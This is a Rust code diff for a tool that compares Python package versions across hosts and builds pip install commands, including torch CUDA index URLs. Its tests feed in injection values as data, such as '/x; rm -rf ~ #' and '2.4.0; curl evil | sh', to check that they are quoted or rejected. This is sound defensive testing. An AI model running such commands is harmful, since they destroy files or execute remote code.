@@ -97,8 +97,8 @@ fn judge(one: &Seen<'_, Found>, all: &All<'_>) -> Verdict {
     for (name, versions) in &all.packages {
         let version = own.packages.get(*name).map_or(NONE, String::as_str);
         if let Some(difference) = versions.difference(version) {
-            let wanted = versions.wanted(version).filter(|wanted| *wanted != NONE && is_version(wanted));
-            install.extend(wanted.map(|wanted| format!("{name}=={wanted}")));
+            let wanted = versions.wanted(version).filter(|wanted| *wanted != NONE);
+            install.extend(wanted.and_then(|wanted| pip_words(name, version, wanted)));
             is_fatal |= FATAL.contains(name);
             let words = if version == NONE { format!("no {name}") } else { format!("{name} {version}") };
             differ.push(format!("{words} ({difference})"));
@@ -158,8 +158,23 @@ fn without(name: &str, own: &Told, all: &All<'_>) -> Verdict {
         .may_run()
 }
 
+/// What pip is told to install a version in the place of another one, or of none, where it can: builds of torch for one CUDA are in an
+/// index of their own.
+pub(super) fn pip_words(name: &str, own: &str, wanted: &str) -> Option<String> {
+    if !is_version(wanted) {
+        return None;
+    }
+    let Some((_, build)) = wanted.split_once('+') else {
+        // a build of a version is that one to `==`, and nothing would be installed
+        let is_build = own.strip_prefix(wanted).is_some_and(|rest| rest.starts_with('+'));
+        return Some(format!("{name}{}{wanted}", if is_build { "===" } else { "==" }));
+    };
+    let is_indexed = name == "torch" && ["cu", "cpu", "rocm"].iter().any(|of| build.starts_with(of));
+    is_indexed.then(|| format!("{name}=={wanted} --extra-index-url https://download.pytorch.org/whl/{build}"))
+}
+
 /// Whether it has no other characters than versions have: it stands in a command that a person may run.
-pub(super) fn is_version(text: &str) -> bool {
+fn is_version(text: &str) -> bool {
     text.chars().all(|c| c.is_ascii_alphanumeric() || ".+!_-".contains(c))
 }
 
@@ -191,6 +206,25 @@ mod tests {
         let odd =
             Python::judge(&seen([told("/x; rm -rf ~ #", "2.3.1"), told("/a", "2.4.0"), told("/a", "2.4.0")]));
         assert!(odd[0].remedy.as_ref().unwrap().starts_with("'/x; rm -rf ~ #' -m pip"), "{odd:?}");
+    }
+
+    #[test]
+    fn a_build_is_installed_from_where_it_is() {
+        let of = |wanted| pip_words("torch", "2.4.0+cpu", wanted);
+        let index = "torch==2.4.0+cu121 --extra-index-url https://download.pytorch.org/whl/cu121";
+        assert_eq!(of("2.4.0+cu121").as_deref(), Some(index));
+        assert_eq!(of("2.4.0a0+07cecf4168.nv24.5"), None, "NVIDIA's own is in an image alone");
+        assert_eq!(of("2.4.0; curl evil | sh"), None);
+        assert_eq!(of("2.4.0").as_deref(), Some("torch===2.4.0"), "2.4.0+cpu is 2.4.0 to pip");
+        assert_eq!(of("2.4").as_deref(), Some("torch==2.4"));
+        assert_eq!(pip_words("numpy", "2.0.1", "1.26.4").as_deref(), Some("numpy==1.26.4"));
+        assert_eq!(pip_words("numpy", NONE, "1.26.4").as_deref(), Some("numpy==1.26.4"));
+        let told = |torch: &str| Some(Ok(told("3.11.2", &[("torch", torch)])));
+        let verdicts = Python::judge(&seen([told("2.1.0+cu118"), told("2.1.0+cu118"), told("2.1.0")]));
+        let index = "torch==2.1.0+cu118 --extra-index-url https://download.pytorch.org/whl/cu118";
+        assert!(verdicts[2].remedy.as_ref().unwrap().ends_with(index), "{verdicts:?}");
+        let verdicts = Python::judge(&seen([told("2.1.0"), told("2.1.0"), told("2.1.0+cu118")]));
+        assert!(verdicts[2].remedy.as_ref().unwrap().ends_with(" torch===2.1.0"), "{verdicts:?}");
     }
 
     #[test]
@@ -236,7 +270,11 @@ mod tests {
             (verdict.mark, verdict.evidence.as_str()),
             (Mark::Look, "/opt/conda/bin/python3: no numpy (other hosts have 1.26.0)")
         );
-        assert_eq!(Python::judge(&seen([alike(), None]))[1].mark, Mark::Look);
+        let none = &Python::judge(&seen([alike(), None]))[1];
+        assert_eq!(
+            (none.mark, none.evidence.as_str()),
+            (Mark::Look, "no python3 on the PATH of commands over ssh")
+        );
         let broken = || Some(Err("libpython3.11.so.1.0: cannot open shared object file".to_owned()));
         assert_eq!(Python::judge(&seen([alike(), broken()]))[1].mark, Mark::Look);
         assert_eq!(Python::judge(&seen([None, None]))[1].mark, Mark::Unknown);
